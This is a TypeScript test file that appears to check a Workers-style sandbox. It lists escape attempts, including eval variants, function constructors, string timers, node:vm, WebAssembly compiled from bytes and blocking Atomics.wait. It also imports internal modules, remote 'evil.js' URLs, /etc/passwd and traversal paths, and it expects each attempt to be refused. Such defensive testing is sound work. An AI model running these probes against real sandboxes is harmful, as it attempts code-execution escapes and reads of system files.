/** Doors to code that was never published: evaluation, WebAssembly from bytes, modules from elsewhere. */
import { attack, door, type Attack } from './attack.ts';

const NO_CODE = /code generation|disallowed/i;
const NO_MODULE = /no such module|not found|cannot find|failed to resolve|invalid|unsupported/i;

const WASM = 'new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])';
const CODE: readonly Attack[] = [
  door('code: eval', `return eval('1 + 1');`, NO_CODE),
  door('code: indirect eval', `return (0, eval)('1 + 1');`, NO_CODE),
  door('code: new Function', `return new Function('return 1')();`, NO_CODE),
  door(
    'code: the constructor of async functions',
    `return await (async () => {}).constructor('return 1')();`,
    NO_CODE,
  ),
  door(
    'code: the constructor of generators',
    `return [...(function* () {}).constructor('yield 1')()];`,
    NO_CODE,
  ),
  door(
    'code: a string as timer',
    `
    await new Promise((resolve) => setTimeout(resolve, 5));
    globalThis.planted = 0;
    setTimeout('globalThis.planted = 1', 0);
    await new Promise((resolve) => setTimeout(resolve, 20));
    return globalThis.planted;`,
    /of type function/i,
  ),
  door(
    'code: node:vm',
    `return (await import('node:vm')).runInThisContext('1 + 1');`,
    /not implemented|code generation|not a function|ENOSYS/i,
  ),
  door('code: WebAssembly.compile of bytes', `return String(await WebAssembly.compile(${WASM}));`, NO_CODE),
  door(
    'code: WebAssembly.instantiate of bytes',
    `return String(await WebAssembly.instantiate(${WASM}));`,
    NO_CODE,
  ),
  door('code: new WebAssembly.Module', `return String(new WebAssembly.Module(${WASM}));`, NO_CODE),
  door(
    'code: WebAssembly.compileStreaming',
    `
    return String(await WebAssembly.compileStreaming(new Response(${WASM}, { headers: { 'content-type': 'application/wasm' } })));`,
    /not a function|code generation/i,
  ),
  door(
    'code: blocking the thread',
    `
    return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60_000);`,
    /cannot be called|not allowed/i,
  ),
];

const importDoor = (specifier: string): Attack =>
  door(
    `modules: import of ${specifier.slice(0, 40)}`,
    `return Object.keys(await import(${JSON.stringify(specifier)}));`,
    NO_MODULE,
  );

const MODULES: readonly Attack[] = [
  importDoor('workerd:unsafe'),
  importDoor('workerd:unsafe-eval'),
  importDoor('node-internal:internal_process'),
  importDoor('cloudflare-internal:sockets'),
  importDoor('cloudflare-internal:env'),
  importDoor('internal:unsafe-eval'),
  importDoor('data:text/javascript,export default 1'),
  importDoor('blob:https://x/1'),
  importDoor('file:///bin/workerd'),
  importDoor('file:///run/in/w.sock'),
  importDoor('http://127.0.0.1/evil.js'),
  importDoor('https://example.com/evil.js'),
  importDoor('/etc/passwd'),
  importDoor('../../../etc/passwd'),
  attack(
    'modules: workerd:unsafe at top level',
    `import unsafe from 'workerd:unsafe'; export default { fetch() { return new Response(String(unsafe)); } };`,
    { status: 200 },
    {},
  ),
].map((one) =>
  one.name.endsWith('at top level')
    ? {
        ...one,
        must: { kind: 'refused_upload', code: 'publish_startup_failed', reason: /No such module/ } as const,
      }
    : one,
);

export const CODE_ATTACKS: readonly Attack[] = [...CODE, ...MODULES];
